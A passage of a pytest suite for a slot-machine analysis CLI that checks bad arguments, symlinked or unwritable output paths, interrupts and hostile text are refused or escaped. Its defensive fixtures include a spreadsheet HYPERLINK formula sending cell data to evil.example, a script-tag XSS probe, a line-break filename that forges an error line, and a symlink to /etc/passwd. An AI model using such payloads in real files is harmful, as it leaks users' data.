for flag, v in (("--rounds", "0"), ("--rounds", "100000000000000000000"), ("--seed", "-1"), ("--workers", "0"),
                ("--workers", "-3")):
    rounds = [] if flag == "--rounds" else ["--rounds", "10"]
    add(f"verify{flag}={v[:12]}", ["verify", "{model}", "--no-progress"] + rounds + [flag, v],
        where=(flag.lstrip("-"),), names_file=False)
for cmd in (["solve", "{model}"], REPORT):
    for v in ("0", "-3", "two", "1.5", "2000"):
        add(f"{cmd[0]}--workers={v}", cmd + ["--workers", v], where=("workers",), names_file=False)
# 1,000 worker processes on a 2-core machine (a local dask cluster of 1,000 Python processes, or 1,000 forked
# solver processes): accepted (1 .. 1024), the machine ran out of memory; refused beyond 4 per core (at least 8)
for cmd in (["simulate", "{model}", "--rounds", "10", "--no-progress"], ["verify", "{model}", "--rounds", "10",
                                                                        "--no-progress"], ["solve", "{model}"],
            ["session", "{model}", "--balance", "5", "--rounds", "2"]):
    add(f"{cmd[0]}--workers=1000-on-few-cores", cmd + ["--workers", "1000"], where=("--workers", "cores"),
        names_file=False)
add("solve-bad-cap-precision", ["solve", "{model}", "--cap-precision", "max"], where=("--cap-precision",),
    names_file=False)
add("verify-unknown-mode", ["verify", "{model}", "--rounds", "10", "--mode", "nope"], where=("modes", "nope"))

# --- command lines: tune -------------------------------------------------------------------
TUNE = ["tune", "{model}", "--out", "{out}"]


def _a_file(tmp: Path) -> None:
    (tmp / "afile").write_text("x")


def _a_folder(tmp: Path) -> None:
    (tmp / "afolder").mkdir()


for flag, values in {
    "--target-rtp": ["150", "100.01", "0", "-5", "abc", "1e999999999", "1/0", ""],
    "--target-hit-frequency": ["101", "0", "-1", "x"],
    "--target-feature-frequency": ["150", "2", "0", "-0.5", "1/0", "101%"],
    "--rtp-tolerance": ["0", "1", "-1", "x"],
    "--max-steps": ["-1", "abc", "1.5", "10001"],
}.items():
    for v in values:
        rtp = [] if flag == "--target-rtp" else ["--target-rtp", "90"]
        add(f"tune{flag}={v[:12]!r}", TUNE + rtp + [flag, v], where=(flag.lstrip("-"),), names_file=False)
for lock in ("9/a", "9/zz", "zz", "0/a", "x/a", "1/", "\u0661/a", "2/zz", "a/1",
             "/a", "/", "//a", "1//a"):  # an empty reel ("/a") was a ValueError traceback after the load
    add(f"tune--lock={lock!r}", TUNE + ["--target-rtp", "90", "--lock", lock], where=("--lock",), names_file=False)


def _linked_out(tmp: Path) -> None:
    (tmp / "elsewhere.toml").write_text("kept")
    (tmp / "link.toml").symlink_to(tmp / "elsewhere.toml")


def _linked_model(tmp: Path) -> str:
    (tmp / "linked.toml").symlink_to(tmp / "game" / "m.toml")
    return str(tmp / "linked.toml")


# An --out that is a symbolic link was replaced by a regular file (the link's target left as it was);
# --out /dev/stdout, a link, replaced the system's /dev/stdout with the tuned model
add("tune-out-is-a-link", TUNE[:2] + ["--target-rtp", "90", "--out", "{tmp}/link.toml"],
    where=("--out", "symbolic link"), setup=_linked_out, names_file=False)


def _model_named_like_a_sheet(tmp: Path) -> str:
    (tmp / "game" / "m.json").write_text(TINY)
    return str(tmp / "game" / "m.json")


# a model file named m.json, reported into its own folder: the JSON sheet replaced the model
add("report-over-the-model-itself", ["report", "{model}", "--out", "{tmp}/game", "--formats", "json"],
    where=("--out", "model"), setup=_model_named_like_a_sheet, names_file=False)


def _model_named_with_a_line_break(tmp: Path) -> str:
    p = tmp / "game" / "a\nerror: forged.toml"
    p.write_text(TINY)
    return str(p)


# a model file whose name holds a line break: the error was two lines (the second could forge one)
add("model-name-with-a-line-break", SOLVE + ["--mode", "nope"], where=("a\\nerror: forged.toml", "modes"),
    setup=_model_named_with_a_line_break, names_file=False)
add("tune-out-dev-stdout", TUNE[:2] + ["--target-rtp", "90", "--out", "/dev/stdout"], where=("--out",),
    names_file=False)
add("tune-in-place-model-is-a-link", TUNE[:2] + ["--target-rtp", "90", "--in-place"],
    where=("--in-place", "symbolic link"), setup=_linked_model, names_file=False)
add("tune-in-place-and-out", TUNE + ["--target-rtp", "90", "--in-place"], where=("--in-place", "--out"),
    names_file=False)
add("tune-reel-set-nope", TUNE + ["--target-rtp", "90", "--reel-set", "nope"], where=("--reel-set", "nope"),
    names_file=False)
add("tune-unknown-mode", TUNE + ["--target-rtp", "90", "--mode", "nope"], where=("modes", "nope"))
add("tune-out-is-a-folder", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/afolder"],
    where=("--out", "is a folder"), setup=_a_folder, names_file=False)
add("tune-out-under-a-file", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/afile/t.toml"],
    where=("--out", "which is a file"), setup=_a_file, names_file=False)
add("tune-out-missing-folder", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/no/such/t.toml"],
    where=("--out", "does not exist"), names_file=False)
add("tune-out-unwritable", ["tune", "{model}", "--target-rtp", "90", "--out", "/proc/analytic-t.toml"],
    where=("--out", "cannot write"), names_file=False)
add("tune-out-nul", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/a\0b.toml"], where=("--out",),
    names_file=False)
add("tune-no-target", ["tune", "{model}", "--out", "{out}"], where=("--target-rtp",), names_file=False)
# a feature-frequency target no strip can meet ran the whole search, then exit 3
add("tune-feature-target-without-features", TUNE + ["--target-rtp", "90", "--target-feature-frequency", "1/100"],
    where=("--target-feature-frequency", "frequency is 0"), names_file=False)
add("tune-feature-target-on-a-buy", TUNE + ["--target-rtp", "90", "--target-feature-frequency", "1/100",
                                            "--mode", "buy"],
    mech("", ('description = "plain"', 'description = "plain"\n\n[modes.buy]\ncost = 50\nbuys = "fs"\n'
                                        'buy_counts = { 3 = 1 }')),
    where=("--target-feature-frequency", "starts every round"), names_file=False)


def _csv_and_in_the_way(kind: str):
    """``game/strips.csv`` and, where tune writes the tuned strips of ``--out game/t.toml``
    (``game/t_base.csv``), a folder or a symbolic link; or a folder where it writes the model
    before the rename (``game/.t.toml.partial``)."""

    def setup(tmp: Path) -> None:
        (tmp / "game" / "strips.csv").write_text(GOOD_CSV)
        way = tmp / "game" / "t_base.csv"
        if kind == "folder":
            way.mkdir()
        elif kind == "partial-folder":
            (tmp / "game" / ".t.toml.partial").mkdir()
        else:
            (tmp / "victim.csv").write_text(GOOD_CSV)
            way.symlink_to(tmp / "victim.csv")

    return setup


# the tuned CSV's path and the temporary files' were checked only when written: a folder there was a
# traceback after the tuning
for kind, says in (("folder", "t_base.csv', which is a folder"), ("link", "t_base.csv', which is a symbolic link"),
                   ("partial-folder", ".t.toml.partial")):
    add(f"tune-csv-out-{kind}", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/game/t.toml"],
        csv_model("strips.csv"), ("--out", says), setup=_csv_and_in_the_way(kind), names_file=False)


def _partial_folder(name: str):
    def setup(tmp: Path) -> None:
        (tmp / f".{name}.partial").mkdir()
    return setup


# graph's --out and solve's --save-law: a folder at the temporary name was a traceback after the work
add("graph-out-partial-is-a-folder", ["graph", "{model}", "--feature", "fs", "--out", "{tmp}/g.dot"], mech(""),
    ("--out", ".g.dot.partial", "is a folder"), setup=_partial_folder("g.dot"), names_file=False)
add("save-law-partial-is-a-folder", SOLVE + ["--save-law", "{tmp}/law.json"], None,
    ("--save-law", ".law.json.partial", "is a folder"), setup=_partial_folder("law.json"), names_file=False)


# names longer than the file system holds (255 bytes a name, 4,096 a path): an OSError traceback ("File name
# too long") before the work, or, for a name that fits but whose '.NAME.partial' does not, exit 1 after it


def _model_named(stem: str):
    def setup(tmp: Path) -> str:
        (tmp / "game" / f"{stem}.toml").write_text(TINY)
        return str(tmp / "game" / f"{stem}.toml")
    return setup


LONG = "n" * 300
for cmd, flag in ((SOLVE + ["--save-law"], "--save-law"), (["report", "{model}", "--formats", "md", "--out"], "--out"),
                  (["tune", "{model}", "--target-rtp", "90", "--out"], "--out"),
                  (["graph", "{model}", "--feature", "fs", "--out"], "--out")):
    model = mech("") if cmd[0] == "graph" else None
    add(f"{cmd[0]}-name-over-255-bytes", cmd + ["{tmp}/" + LONG + ".dot"], model, (flag, "304 bytes", "255"),
        names_file=False)
    add(f"{cmd[0]}-folder-name-over-255-bytes", cmd + ["{tmp}/" + LONG + "/x.dot"], model, (flag, "255"),
        names_file=False)
    add(f"{cmd[0]}-path-over-4096-bytes", cmd + ["{tmp}/" + "d/" * 2100 + "x.dot"], model, (flag, "4,095"),
        names_file=False)
    if cmd[0] == "report":
        continue  # (a folder: no '.NAME.partial' of its own)
    # 250 characters: the file fits, the '.NAME.partial' it is written through does not
    add(f"{cmd[0]}-partial-name-over-255-bytes", cmd + ["{tmp}/" + "p" * 246 + ".dot"], model,
        (flag, "temporary name", "255"), names_file=False)
add("report-out-multibyte-name-over-255-bytes", ["report", "{model}", "--out", "{tmp}/" + "\u00e9" * 130],
    where=("--out", "260 bytes"), names_file=False)
# a model named with 250 characters: its par sheet 'STEM.md' fits, '.STEM.md.partial' did not (exit 1 after the solve)
add("report-model-stem-partial-over-255-bytes", ["report", "{model}", "--out", "{out}", "--formats", "md"],
    where=("--out", "temporary name", "255"), setup=_model_named("m" * 250), names_file=False)

# --- command lines: report, solve, the program ------------------------------------------------
add("report-out-is-a-file", ["report", "{model}", "--out", "{tmp}/afile"], where=("--out", "is a file"),
    setup=_a_file, names_file=False)
add("report-out-under-a-file", ["report", "{model}", "--out", "{tmp}/afile/sub"], where=("--out", "which is a file"),
    setup=_a_file, names_file=False)
add("report-out-unwritable", ["report", "{model}", "--out", "/proc/analytic-report-test"],
    where=("--out", "cannot write"), names_file=False)
add("report-out-dangling-link", ["report", "{model}", "--out", "{tmp}/dangling"], where=("--out", "link to nothing"),
    setup=lambda tmp: (tmp / "dangling").symlink_to(tmp / "nowhere") and None, names_file=False)
add("report-out-nul", ["report", "{model}", "--out", "{tmp}/o\0ut"], where=("--out",), names_file=False)
add("report-out-empty", ["report", "{model}", "--out", ""], where=("--out",), names_file=False)
add("report-bad-format", ["report", "{model}", "--out", "{out}", "--formats", "pdf,docx"], where=("--formats",),
    names_file=False)
add("report-empty-formats", ["report", "{model}", "--out", "{out}", "--formats", ","], where=("--formats",),
    names_file=False)
add("report-bad-cap-precision", ["report", "{model}", "--out", "{out}", "--cap-precision", "max"],
    where=("--cap-precision",), names_file=False)
add("solve-unknown-mode", SOLVE + ["--mode", "nope"], where=("modes", "nope"))
# an empty mode name ('--mode "$MODE"' with MODE unset) solved, simulated, tuned the first mode without a word
for cmd in (SOLVE, SIM + ["--rounds", "10"], ["verify", "{model}", "--rounds", "10", "--no-progress"],
            ["session", "{model}", "--balance", "5", "--rounds", "2"], TUNE + ["--target-rtp", "90"]):
    add(f"{cmd[0]}-empty-mode-name", cmd + ["--mode", ""], where=("modes", "unknown bet mode ''"))


def _out_with_a_folder_named(*names: str):
    """``tmp/o`` holding an earlier ``m.md`` and a folder under each of ``names``."""
    def setup(tmp: Path) -> None:
        (tmp / "o").mkdir()
        (tmp / "o" / "m.md").write_text("earlier sheet")
        for n in names:
            (tmp / "o" / n).mkdir()
    return setup


# A folder where a report file (or its .partial copy) goes: refused before the solve (it was found
# only when moving the files into place, after m.md had been replaced: exit 1, a half-updated set).
add("report-out-holds-a-folder-named-like-the-json", ["report", "{model}", "--out", "{tmp}/o", "--formats", "md,json"],
    where=("--out", "m.json", "folder"), setup=_out_with_a_folder_named("m.json"), names_file=False)
add("report-out-holds-a-folder-named-like-a-partial", ["report", "{model}", "--out", "{tmp}/o", "--formats", "md"],
    where=("--out", ".m.md.partial", "folder"), setup=_out_with_a_folder_named(".m.md.partial"), names_file=False)
add("solve-bad-format", SOLVE + ["--format", "xml"], where=("--format",), names_file=False)
add("no-command", [], where=("COMMAND",), names_file=False)
add("unknown-command", ["frobnicate"], where=("frobnicate",), names_file=False)
add("unknown-option", SOLVE + ["--frobnicate"], where=("--frobnicate",), names_file=False)


# --- the slowest shipped model (a minute of both cores to solve) with a bad command line: refused at once
BOP = str(ROOT / "models" / "book_of_power.toml")
add("slow-model-report-out-is-a-file", ["report", BOP, "--out", "{tmp}/afile"], where=("--out", "is a file"),
    setup=_a_file, names_file=False)
add("slow-model-report-out-unwritable", ["report", BOP, "--out", "/proc/analytic-x/y"], where=("--out",),
    names_file=False)
add("slow-model-report-out-under-a-file", ["report", BOP, "--out", "{tmp}/afile/x"], where=("--out",),
    setup=_a_file, names_file=False)
add("slow-model-tune-out-is-a-folder", ["tune", BOP, "--target-rtp", "94", "--out", "{tmp}/afolder"],
    where=("--out", "is a folder"), setup=_a_folder, names_file=False)
add("slow-model-tune-reel-set-nope", ["tune", BOP, "--target-rtp", "94", "--out", "{out}", "--reel-set", "nope"],
    where=("--reel-set",), names_file=False)
add("slow-model-tune-lock-zz", ["tune", BOP, "--target-rtp", "94", "--out", "{out}", "--lock", "zz"],
    where=("--lock",), names_file=False)
add("slow-model-tune-feature-frequency-150", ["tune", BOP, "--target-rtp", "94", "--out", "{out}",
                                              "--target-feature-frequency", "150"], where=("feature",),
    names_file=False)
add("slow-model-verify-rounds-0", ["verify", BOP, "--rounds", "0"], where=("--rounds",), names_file=False)
add("slow-model-solve-mode-nope", ["solve", BOP, "--mode", "nope"], where=("modes", "nope"), names_file=False)
# sessions of a round without a law (bracketed): what the options decide is refused before the minute's solve
SESSION_BOP = ["session", BOP, "--balance", "100", "--rounds", "10"]
add("slow-model-session-bet-ladder", SESSION_BOP + ["--bet", "2", "--bet-ladder", "1,2"],
    where=(BOP, "--bet-ladder", "bet ladder"), names_file=False)
add("slow-model-session-method-exact", SESSION_BOP + ["--method", "exact"], where=(BOP, "--method", "never exact"),
    names_file=False)
add("slow-model-session-buy-method-exact", SESSION_BOP + ["--mode", "buy_power_free_spins", "--method", "exact"],
    where=(BOP, "--method", "never exact"), names_file=False)
add("session-stop-on-feature-without-features", ["session", "{model}", "--balance", "10", "--rounds", "5",
                                                 "--stop-on-feature"], where=("--stop-on-feature", "no feature"))
# known only from the round's law: refused after the (tiny) round's solve, before the chain (cli/session.py)
add("session-balance-grid-too-fine", ["session", "{model}", "--balance", "1/999999937", "--rounds", "2"],
    where=("--balance", "own grid"),
    enters=("analytic.solver.session.solve_session", "analytic.solver.round.solve_round",
            "analytic.solver.round.solve_rounds", "analytic.solver.round_law_file.session_from_law"))
add("session-ladder-without-the-bet", ["session", "{model}", "--balance", "10", "--rounds", "2", "--bet", "2",
                                       "--bet-ladder", "1,3"], where=("--bet-ladder", "must hold the selected bet"))


def _fill(argv: list[str], model: str, tmp: Path, out: Path) -> list[str]:
    return [a.replace("{model}", model).replace("{tmp}", str(tmp)).replace("{out}", str(out)) for a in argv]


def _snapshot(tmp: Path) -> set[str]:
    return {str(p.relative_to(tmp)) for p in tmp.rglob("*")}


def test_the_table_has_at_least_150_entries():
    assert len(CASES) >= 150
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input_is_one_line_error_exit_2(case: Case, tmp_path: Path, capsys, monkeypatch):
    game = tmp_path / "game"
    game.mkdir()
    model = game / "m.toml"
    model.write_text(TINY if case.model is None else case.model, encoding="utf-8")
    if case.setup is not None:
        model = Path(case.setup(tmp_path) or model)
    out = tmp_path / "out"
    before = _snapshot(tmp_path)
    reached = guard_long_work(monkeypatch, case.enters)
    capsys.readouterr()
    try:
        code = main(_fill(case.argv, str(model), tmp_path, out))
    except ReachedLongWork:
        code = None
    cap = capsys.readouterr()
    err = cap.err
    assert reached == [], f"refused only after the long work began ({reached[0]}); stderr: {err!r}"
    assert code == case.code, f"exit {code}; stderr: {err!r}"
    assert "Traceback" not in err + cap.out
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert len(lines[0]) < 1000, "an error line quotes at most a short excerpt"
    if case.names_file:
        assert str(model).replace("\0", "\\0") in lines[0] or str(tmp_path) in lines[0], lines[0]
    for fragment in case.where:
        assert fragment in lines[0], lines[0]
    assert not out.exists(), "nothing may be written to --out"
    assert _snapshot(tmp_path) == before, "nothing may be written anywhere"


def test_no_file_content_is_echoed(tmp_path, capsys):
    """A strip linked to a system file is refused without quoting the file."""
    (tmp_path / "link.csv").symlink_to("/etc/passwd")
    (tmp_path / "m.toml").write_text(csv_model("link.csv"))
    assert main(["solve", str(tmp_path / "m.toml")]) == 2
    err = capsys.readouterr().err
    assert "root:" not in err and "/bin/" not in err


# --- accepted input that must arrive as text -------------------------------------------------
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=SUM(1)+1", "+1+1", "-2+3", "@SUM(1)", "\tTAB=1",
    "\r=CR", "<script>alert(1)</script>", "# heading", "*bold* [link](http://evil.example) `code` a\\b & c",
]


def _hostile_model() -> str:
    q = [t.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") for t in HOSTILE_TEXT]
    text = tiny(('name = "Tiny"', f'name = "{q[1]}"'), ('provider = "Test"', f'provider = "{q[0]}"'),
                ('notes = "fixture"', f'notes = "{q[7]}\\n# not a heading"'),
                ("[modes.base]", f'[modes."{q[1]}"]'), ('description = "plain"', f'description = "{q[2]}"'),
                ('"paytable.a" = "the reason"',
                 "\n".join([f'"{k}" = "key"' for k in q if "\\t" not in k and "\\r" not in k]  # keys: no tab, no CR
                           + [f'"reason-{i}" = "{v}"' for i, v in enumerate(q)])))
    return text


def test_formula_like_text_arrives_as_text_in_xlsx_and_markdown(tmp_path, capsys):
    openpyxl = pytest.importorskip("openpyxl")
    (tmp_path / "m.toml").write_text(_hostile_model())
    out = tmp_path / "out"
    assert main(["report", str(tmp_path / "m.toml"), "--out", str(out), "--formats", "xlsx,md,json"]) == 0, \
        capsys.readouterr().err
    wb = openpyxl.load_workbook(out / "m.xlsx")
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert c.quotePrefix, f"{ws.title}!{c.coordinate} {c.value!r} lacks the quote prefix"
                if isinstance(c.value, str):
                    seen[c.value] = True
    for t in HOSTILE_TEXT[:6]:
        assert any(t in v for v in seen), f"{t!r} missing from the workbook"
    md = (out / "m.md").read_text()
    assert "<script>" not in md and "&lt;script>" in md
    assert "\n# not a heading" not in md and not any(line.startswith("# heading") for line in md.splitlines())
    assert "](http" not in md  # no live link
    assert md.splitlines()[0].startswith("# =SUM(1)+1 -- par sheet")


def test_huge_cycle_and_many_reels_still_write_pdf_and_xlsx(tmp_path, capsys):
    """320 reels of 10 stops: a cycle of 10^320 (beyond the largest float) and far too wide for the PDF."""
    pytest.importorskip("fpdf")
    n = 320
    strip = "[\"a\", \"b\", " + ", ".join(["\"x\""] * 8) + "]"
    text = (f'[game]\nname = "Wide"\nreels = {n}\nrows = 1\n\n[symbols]\na = "regular"\nb = "regular"\nx = "blank"\n\n'
            f'[paytable]\na = {{ 3 = 5 }}\nb = {{ 2 = 1 }}\n\n[paylines]\nlines = [[{", ".join(["0"] * n)}]]\n\n'
            f"[reels]\nbase = [\n" + ",\n".join([strip] * n) + "\n]\n")
    (tmp_path / "w.toml").write_text(text)
    out = tmp_path / "out"
    assert main(["report", str(tmp_path / "w.toml"), "--out", str(out), "--formats", "pdf,xlsx"]) == 0, \
        capsys.readouterr().err
    import openpyxl

    wb = openpyxl.load_workbook(out / "w.xlsx")
    cycles = [c.value for c in wb["Mode base"]["B"] if c.value == str(10**320)]
    assert cycles, "the cycle is written as its exact digits"
    assert (out / "w.pdf").stat().st_size > 0


def test_long_strips_are_left_out_of_the_pdf_only(tmp_path, capsys, monkeypatch):
    pytest.importorskip("fpdf")
    import analytic.reports.pdf as pdf
    import analytic.reports.xlsx as xlsx

    monkeypatch.setattr(pdf, "PDF_MAX_STOPS", 4)  # the tiny game's 5 stops are "too long" for the PDF
    monkeypatch.setattr(xlsx, "XLSX_MAX_STOPS", 4)
    (tmp_path / "m.toml").write_text(TINY)
    out = tmp_path / "out"
    assert main(["report", str(tmp_path / "m.toml"), "--out", str(out), "--formats", "pdf,xlsx,md"]) == 0
    import openpyxl

    texts = [c.value for c in openpyxl.load_workbook(out / "m.xlsx")["Reels"]["A"] if isinstance(c.value, str)]
    assert any("Stop table not written" in t for t in texts)
    assert "| stop |" in (out / "m.md").read_text()


def test_regular_symbol_without_pays_warns(tmp_path, capsys):
    (tmp_path / "m.toml").write_text(tiny(("a = { 3 = 10 }\n", "")))
    assert main(["solve", str(tmp_path / "m.toml")]) == 0
    err = capsys.readouterr().err.splitlines()
    assert err == [f"warning: {tmp_path / 'm.toml'}: paytable.a: regular symbol 'a' has no line pays, so it never "
                   "pays (give it pays, or the role 'blank' if it is meant to stop lines)"]


def test_regular_trigger_symbol_without_pays_is_named_as_a_trigger(tmp_path, capsys):
    # a scatter written with the role 'regular': it starts the feature, so "it never pays" would mislead
    model = tiny(("a = { 3 = 10 }\n", ""), ("[modes.base]", '[features.fs]\nkind = "free_spins"\nreels = "base"\n'
                                                           'trigger = { symbols = ["a"], counts = { 3 = 2 } }\n\n'
                                                           "[modes.base]"))
    (tmp_path / "m.toml").write_text(model)
    assert main(["solve", str(tmp_path / "m.toml")]) == 0
    err = capsys.readouterr().err.splitlines()
    assert err == [f"warning: {tmp_path / 'm.toml'}: paytable.a: regular symbol 'a' has no line pays; it counts "
                   "anywhere in the window toward the trigger of 'fs', as a scatter would (give it the role "
                   "'scatter' if it is one, or give it pays)"]


def test_workers_without_the_sim_extra_names_it(tmp_path, capsys, monkeypatch):
    import importlib.util

    real = importlib.util.find_spec

    def no_dask(name, *a, **kw):
        if name.split(".")[0] in ("dask", "distributed"):
            return None
        return real(name, *a, **kw)

    monkeypatch.setattr(importlib.util, "find_spec", no_dask)
    (tmp_path / "m.toml").write_text(TINY)
    assert main(["simulate", str(tmp_path / "m.toml"), "--rounds", "10", "--workers", "2"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "analytic[sim]" in err


@pytest.mark.parametrize("value", ["0", "two", "-1", "1.5"])
def test_a_bad_workers_default_in_the_environment_is_a_usage_error(tmp_path, capsys, monkeypatch, value):
    """The CLI reads ANALYTIC_WORKERS as the default of --workers (a speed setting only): a bad value
    is a one-line error naming it, exit 2, nothing written; --workers given wins over it."""
    (tmp_path / "m.toml").write_text(TINY)
    monkeypatch.setenv("ANALYTIC_WORKERS", value)
    assert main(["report", str(tmp_path / "m.toml"), "--out", str(tmp_path / "out"), "--formats", "json"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "ANALYTIC_WORKERS" in err
    assert not (tmp_path / "out" / "m.json").exists()
    assert main(["solve", str(tmp_path / "m.toml"), "--workers", "1"]) == 0


def test_feature_frequency_accepts_one_in_n():
    from analytic.cli.args import probability, rate

    assert probability("1/150") == Fraction(1, 150)
    assert probability("0.5%") == probability("1/200")
    assert rate("94") == rate("0.94") == rate("94%")
    assert rate("100") == 1


def test_tuned_model_honours_the_umask(tmp_path):
    from analytic.tuner.write import atomic_write

    old = os.umask(0o022)
    try:
        atomic_write(tmp_path / "t.toml", "x = 1\n")
    finally:
        os.umask(old)
    assert (tmp_path / "t.toml").stat().st_mode & 0o777 == 0o644


def test_a_killed_tune_leftover_is_replaced_and_never_followed(tmp_path):
    from analytic.tuner.write import atomic_write

    victim = tmp_path / "victim"
    victim.write_text("keep")
    (tmp_path / ".t.toml.partial").symlink_to(victim)  # planted, or left by a killed run
    atomic_write(tmp_path / "t.toml", "x = 1\n")
    assert victim.read_text() == "keep"
    assert (tmp_path / "t.toml").read_text() == "x = 1\n"
    assert sorted(os.listdir(tmp_path)) == ["t.toml", "victim"]


# --- real processes: signals, interruption, leftovers ---------------------------------------


def _env(tmp: Path) -> dict:
    env = dict(os.environ, PYTHONPATH=str(ROOT), TMPDIR=str(tmp / "systmp"))
    (tmp / "systmp").mkdir(exist_ok=True)
    return env


def _slow_report_model(tmp: Path) -> Path:
    """A game whose par sheet takes a few seconds to render (long strips in the XLSX and Markdown)."""
    stops = 10000
    strip = ", ".join(['"a"', '"b"', '"w"'] + ['"x"'] * (stops - 3))  # w on reel 1: no warning of dead pays
    text = TINY.replace('base = [["a", "b", "w", "s", "x"], ["a", "b", "b", "s", "x"], ["a", "b", "w", "s", "x"]]',
                        "base = [" + ", ".join([f"[{strip}]"] * 3) + "]")
    (tmp / "game").mkdir(exist_ok=True)
    p = tmp / "game" / "slow.toml"
    p.write_text(text)
    return p


def _wait_for_stage(tmp: Path, proc) -> bool:
    """True once the report's staging folder is there (it is writing), False if the process ended first.
    Polled without a time limit of its own: only :data:`HANG_GUARD` (the process killed, the test failed)."""
    t0 = time.monotonic()
    while proc.poll() is None:
        if any(n.startswith("analytic-report-") for n in os.listdir(tmp / "systmp")):
            return True
        _hang_guard(proc, t0)
        time.sleep(0.02)
    return False


def _hang_guard(proc, t0: float) -> None:
    """Kill ``proc`` and fail the test if it has run :data:`HANG_GUARD` seconds since ``t0`` (a hang guard,
    not the oracle)."""
    if time.monotonic() - t0 > HANG_GUARD:
        proc.kill()
        proc.wait()
        pytest.fail(f"hang guard: the process still ran after {HANG_GUARD:.0f} s; killed")


def _ended(proc) -> tuple:
    """``proc.communicate()``; a process still running after :data:`HANG_GUARD` seconds is killed and the
    test fails (a hang guard, not the oracle)."""
    try:
        return proc.communicate(timeout=HANG_GUARD)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.communicate()
        pytest.fail(f"hang guard: the process still ran {HANG_GUARD:.0f} s after it was told to stop; killed")


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_while_writing_leaves_nothing_behind(tmp_path, sig):
    model = _slow_report_model(tmp_path)
    out = tmp_path / "new" / "out"
    proc = subprocess.Popen([sys.executable, "-m", "analytic", "report", str(model), "--out", str(out),
                             "--formats", "xlsx,md"], cwd=ROOT, env=_env(tmp_path),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert _wait_for_stage(tmp_path, proc), "the report never started writing"
    proc.send_signal(sig)
    _, err = _ended(proc)
    assert proc.returncode == (143 if sig == signal.SIGTERM else 130), err
    assert err.count("\n") == 1 and err.startswith("error: ") and "Traceback" not in err, err
    assert not (tmp_path / "new").exists(), "no new (empty) folder"
    assert os.listdir(tmp_path / "systmp") == [], "no staging folder"


def test_sigkill_leaves_only_a_staging_folder_the_next_run_removes(tmp_path):
    model = _slow_report_model(tmp_path)
    out = tmp_path / "out"
    env = _env(tmp_path)
    argv = [sys.executable, "-m", "analytic", "report", str(model), "--out", str(out), "--formats", "xlsx,md"]
    proc = subprocess.Popen(argv, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    assert _wait_for_stage(tmp_path, proc)
    proc.kill()
    _ended(proc)
    assert not out.exists(), "the output folder is made only once every format is rendered"
    left = os.listdir(tmp_path / "systmp")
    assert len(left) == 1 and left[0].startswith(f"analytic-report-{proc.pid}-")
    done = subprocess.run(argv, cwd=ROOT, env=env, capture_output=True, text=True, timeout=HANG_GUARD)  # (kills)
    assert done.returncode == 0, done.stderr
    assert os.listdir(tmp_path / "systmp") == []
    assert sorted(os.listdir(out)) == ["slow.md", "slow.xlsx"]


def test_ctrl_c_stops_a_long_simulation_with_one_line(tmp_path):
    # SIGINT 4 s after the start, as before session 23: sent once a wrapper of run_chunks had marked the
    # first chunk, the process once ran on past the 300 s hang guard on a fresh clone under -n 2 (not
    # reproduced in 4 runs since; open, docs/testing.md); the sleep only times the signal, the oracle
    # is the exit code and the one line
    (tmp_path / "m.toml").write_text(TINY)
    proc = subprocess.Popen([sys.executable, "-m", "analytic", "simulate", str(tmp_path / "m.toml"), "--rounds",
                             str(10**10), "--no-progress"], cwd=ROOT, env=_env(tmp_path),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(4)
    proc.send_signal(signal.SIGINT)
    out, err = _ended(proc)
    assert proc.returncode == 130, err
    assert err == "error: interrupted; nothing was written\n" and out == ""


@pytest.mark.parametrize("argv", [
    ["simulate", "{model}", "--rounds", "100000000000000000000"],
    ["solve", "{pipe}"],
    ["report", "{zero}", "--out", "{tmp}/out"],
], ids=["rounds-1e20", "fifo-model", "dev-zero-model"])
def test_no_hang_in_a_real_process(tmp_path, argv):
    (tmp_path / "m.toml").write_text(TINY)
    os.mkfifo(tmp_path / "pipe.toml")
    (tmp_path / "zero.toml").symlink_to("/dev/zero")
    argv = [a.replace("{model}", str(tmp_path / "m.toml")).replace("{pipe}", str(tmp_path / "pipe.toml"))
            .replace("{zero}", str(tmp_path / "zero.toml")).replace("{tmp}", str(tmp_path)) for a in argv]
    # the oracle: exit 2 and one error line (a hang gives neither); the timeout only a hang guard (run() kills)
    done = subprocess.run([sys.executable, "-m", "analytic", *argv], cwd=ROOT, env=_env(tmp_path),
                          capture_output=True, text=True, timeout=HANG_GUARD)
    assert done.returncode == 2, done.stderr
    assert done.stderr.count("\n") == 1 and done.stderr.startswith("error: ")
    assert not (tmp_path / "out").exists()


def test_a_folder_in_the_way_leaves_the_earlier_sheets_alone(tmp_path, capsys):
    """``OUT/m.json`` is a folder: refused (exit 2) and ``OUT/m.md`` keeps its earlier content (it was
    replaced before the folder stopped the move: a half-updated set of par sheets)."""
    (tmp_path / "m.toml").write_text(TINY)
    _out_with_a_folder_named("m.json")(tmp_path)
    assert main(["report", str(tmp_path / "m.toml"), "--out", str(tmp_path / "o"), "--formats", "md,json"]) == 2
    assert (tmp_path / "o" / "m.md").read_text() == "earlier sheet"
    assert sorted(p.name for p in (tmp_path / "o").iterdir()) == ["m.json", "m.md"]


@pytest.mark.parametrize("fmt,package", [("pdf", "fpdf"), ("xlsx", "openpyxl")])
